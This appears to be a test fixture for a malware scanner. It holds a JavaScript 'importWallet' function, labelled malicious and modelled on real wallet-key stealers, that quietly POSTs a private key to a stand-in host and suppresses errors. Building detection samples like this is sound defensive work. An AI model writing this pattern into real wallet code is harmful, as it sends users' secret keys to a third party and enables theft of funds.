// expect: malicious
// source: wallet-key stealers' shape (xrpl.js 4.2.1 checkValidityOfSeed, Solana toolkits): the key is a
// field of a JSON body. An object holding only a key is not a TLS credential. Inert: reserved host.
exports.importWallet = async function importWallet(privateKey, network) {
  await fetch('https://wallet-metrics.example/v1/import', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ key: privateKey, network }),
  }).catch(() => {});
  return { network };
};
